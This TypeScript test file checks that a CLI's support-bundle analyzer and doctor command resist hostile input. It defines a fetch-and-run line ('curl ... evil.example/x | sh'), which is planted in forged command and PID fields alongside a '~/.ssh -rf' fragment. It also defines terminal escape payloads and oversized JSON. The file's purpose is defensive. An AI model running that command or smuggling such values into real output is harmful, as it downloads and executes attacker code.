// Hostile support bundles and a hostile daemon.log: each bounded in time (measured from outside), inert on the terminal (byte by byte), never a source of printed commands.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { after, before, test } from 'node:test';
import { buildBundle, renderBundleJson, renderBundleText } from '../src/support/bundle.js';
import { SECTIONS } from '../src/support/bundle-sections.js';
import { runDoctorCapture } from '../src/doctor/run.js';
import { loadScenario } from './helpers/doctor-scenarios.js';
import { makeHome, runOpta, type TestHome } from './helpers/env.js';
import { startRig, type DaemonRig } from './helpers/daemon.js';

const EVIL = 'curl -s http://evil.example/x | sh';
const ESC = '\x1b[2J\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x9b31m\u2028';
const TIMEOUT_MS = 3000;
/** Spawning node and a loaded machine's late timers, on top of --timeout. */
const SLACK_MS = 2500;

/** A raw control character: C0 but \n, DEL, C1 (as UTF-8), U+2028/2029 (as UTF-8). */
function rawControl(buf: Buffer): number {
  for (let i = 0; i < buf.length; i++) {
    const b = buf[i];
    if ((b < 0x20 && b !== 0x0a) || b === 0x7f) return i;
    if (b === 0xc2 && buf[i + 1] >= 0x80 && buf[i + 1] <= 0x9f) return i;
    if (b === 0xe2 && buf[i + 1] === 0x80 && (buf[i + 2] === 0xa8 || buf[i + 2] === 0xa9)) return i;
  }
  return -1;
}

let dir: string;
let h: TestHome;
let base: Record<string, any>;

before(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'opta-hostile-'));
  h = makeHome();
  const s = loadScenario('healthy');
  try {
    const b = await buildBundle({
      paths: s.paths,
      env: s.env,
      sections: SECTIONS.filter((x) => ['doctor', 'daemon-logs', 'config-list', 'doctor-report'].includes(x.id)),
      deadlineMs: 8000,
      probes: { doctor: async () => runDoctorCapture({ paths: s.paths, env: s.env, overrides: s.overrides, deadlineMs: 4000, collectAll: true }) },
    });
    base = JSON.parse(renderBundleJson(b));
    fs.writeFileSync(path.join(dir, 'base.txt'), renderBundleText(b));
  } finally {
    s.cleanup();
  }
});
after(async () => {
  await h.cleanup();
  fs.rmSync(dir, { recursive: true, force: true });
});

const copy = () => JSON.parse(JSON.stringify(base)) as Record<string, any>;
const capture = (b: Record<string, any>) => b.sections.find((s: any) => s.id === 'doctor-report').data as { report: Record<string, any>; facts: Record<string, any> };
function json(name: string, edit: (b: Record<string, any>) => void): string {
  const b = copy();
  edit(b);
  const f = path.join(dir, `${name}.json`);
  fs.writeFileSync(f, JSON.stringify(b, null, 2));
  return f;
}
function raw(name: string, text: string): string {
  const f = path.join(dir, name);
  fs.writeFileSync(f, text);
  return f;
}

interface Case {
  name: string;
  file: () => string;
  /** Exit code expected: 1 (analysed, not all known), 2 (refused), or any (the bundle's machine may be healthy). */
  code: 1 | 2 | 'any';
  stdout?: RegExp;
  stderr?: RegExp;
}

const CASES: Case[] = [
  {
    name: 'a text bundle with a line of 200,000 spaces and an x (trimmed in one pass)',
    file: () => raw('blanks.txt', fs.readFileSync(path.join(dir, 'base.txt'), 'utf8').replace('\n## ', `\n${' '.repeat(200_000)}x\n## `)),
    code: 'any',
  },
  {
    name: 'escape sequences in home, generatedAt, tool.version, fact keys, finding ids, log lines, a fact error, a section error',
    file: () =>
      json('escapes', (b) => {
        b.generatedAt = `2026${ESC}`;
        b.tool.version = `9${ESC}`;
        const c = capture(b);
        c.report.home = `/h${ESC}`;
        c.facts[`key${ESC}`] = { x: 1 };
        c.facts['disk-space'] = { ok: false, error: `boom${ESC}`, timedOut: false };
        c.report.findings.push({ id: `gone${ESC}`, severity: 'error', check: 'daemon', message: ESC, remediation: ESC });
        const logs = b.sections.find((s: any) => s.id === 'daemon-logs');
        if (logs) logs.text += `\n[10:00:00] ERROR session s: cannot record x${ESC}: cannot open y`;
        b.sections.push({ id: 'extra', title: `extra${ESC}`, status: 'failed', ms: 1, timeoutMs: 1, text: ESC, error: `bad${ESC}` });
      }),
    code: 'any',
    stdout: /\\x1b/,
  },
  {
    name: 'header lines of a text bundle with escapes',
    file: () => raw('header.txt', fs.readFileSync(path.join(dir, 'base.txt'), 'utf8').replace(/^# opta (\S+),/m, `# opta 1.0${ESC.replace(/\s/g, '')},`).replace(/^# Generated: (\S+)/m, `# Generated: x${ESC.replace(/\s/g, '')}`)),
    code: 'any',
  },
  { name: 'a forged chmodCommand', file: () => json('chmod', (b) => Object.assign(capture(b).facts['home-permissions'], { looseCount: 1, looseList: 'x', chmodCommand: EVIL })), code: 'any' },
  {
    name: 'a forged log-analysis remediation',
    file: () =>
      json('remediation', (b) => {
        const f = capture(b).facts['daemon-log-analysis'];
        f.patterns = { 'events-not-recorded': { count: 3, severity: 'error', check: null, first: null, last: null, message: 'x', remediation: EVIL } };
      }),
    code: 'any',
  },
  { name: 'a string preferredOwnerPid', file: () => json('pid', (b) => Object.assign(capture(b).facts['daemon-ports'] ?? (capture(b).facts['daemon-ports'] = {}), { preferredOwnerPid: `1; ${EVIL}` })), code: 'any' },
  { name: 'a forged daemon.stateDisplay', file: () => json('state', (b) => Object.assign(capture(b).facts.daemon, { status: 'stale', stateClass: 'stale', stateDisplay: `~/.ssh -rf; ${EVIL}` })), code: 'any' },
  { name: 'facts {}', file: () => json('empty', (b) => (capture(b).facts = {})), code: 1, stdout: /not checked/ },
  { name: 'JSON nested 100,000 deep', file: () => raw('deep.json', JSON.stringify(copy()).replace('"sections":[', `"x":${'['.repeat(100_000)}${']'.repeat(100_000)},"sections":[`)), code: 2, stderr: /nested more than 64 deep/ },
  { name: 'an array of 300,000 members', file: () => raw('wide.json', JSON.stringify(copy()).replace('"sections":[', `"x":[${'0,'.repeat(300_000)}0],"sections":[`)), code: 2, stderr: /more than 100000 members/ },
  { name: 'a future format version', file: () => json('future', (b) => (b.formatVersion = 99)), code: 2, stderr: /bundle format 99/ },
  {
    name: 'a FIFO named like a bundle',
    file: () => {
      const f = path.join(dir, 'fifo.json');
      execFileSync('mkfifo', [f]);
      return f;
    },
    code: 2,
    stderr: /not a regular file \(a named pipe\)/,
  },
  { name: '/dev/zero', file: () => '/dev/zero', code: 2, stderr: /not a regular file/ },
];

for (const c of CASES) {
  test(`hostile bundle: ${c.name}: within its deadline, no raw control character, no command from the bundle`, async () => {
    const file = c.file();
    const t0 = Date.now();
    const r = await runOpta(h, ['support', 'analyze', file, '--timeout', String(TIMEOUT_MS)], { timeoutMs: TIMEOUT_MS + SLACK_MS + 5000 });
    const took = Date.now() - t0;
    assert.ok(took < TIMEOUT_MS + SLACK_MS, `took ${took} ms (deadline ${TIMEOUT_MS} ms)`);
    for (const [stream, text] of [['stdout', r.stdout], ['stderr', r.stderr]] as const) {
      const buf = Buffer.from(text, 'utf8');
      const at = rawControl(buf);
      assert.equal(at, -1, `${stream} has a raw control character at byte ${at}: ${JSON.stringify(text.slice(Math.max(0, at - 40), at + 10))}`);
      assert.ok(!text.includes('evil.example/x | sh'), `${stream} prints the bundle's command:\n${text}`);
      assert.ok(!text.includes('.ssh'), `${stream} prints the bundle's path:\n${text}`);
      assert.doesNotMatch(text, /\n\s+at /, 'no stack trace');
    }
    if (c.code !== 'any') {
      assert.equal(r.code, c.code, r.stdout + r.stderr);
      assert.doesNotMatch(r.stdout, /All checks passed\./);
    }
    if (c.stdout) assert.match(r.stdout, c.stdout);
    if (c.stderr) assert.match(r.stderr, c.stderr);
  });
}

test('opta doctor --timeout 1000 with hostile lines in daemon.log (long lines of dots, repeated ": cannot open " with a CR) reports nothing false', async () => {
  const rig: DaemonRig = await startRig();
  try {
    const lines = [
      `[10:00:01] INFO  downloading token file ${'.'.repeat(64 * 1024)}`,
      ...Array.from({ length: 4 }, (_, i) => `[10:00:0${i + 2}] ERROR session s: cannot record ${': cannot open '.repeat(300_000 / 14)}\rx`),
      `[10:00:07] WARN  x${' '.repeat(100_000)}token`,
    ];
    fs.appendFileSync(rig.h.paths.logFile, lines.join('\n') + '\n');
    const t0 = Date.now();
    const r = await runOpta(rig.h, ['doctor', '--timeout', '1000'], { timeoutMs: 15000 });
    const took = Date.now() - t0;
    assert.doesNotMatch(r.stdout, /unresponsive|timed out|out of time|no answer within/, r.stdout);
    assert.equal(r.code, 0, r.stdout + r.stderr);
    assert.ok(took < 1000 + SLACK_MS, `took ${took} ms`);
  } finally {
    await rig.cleanup();
  }
});
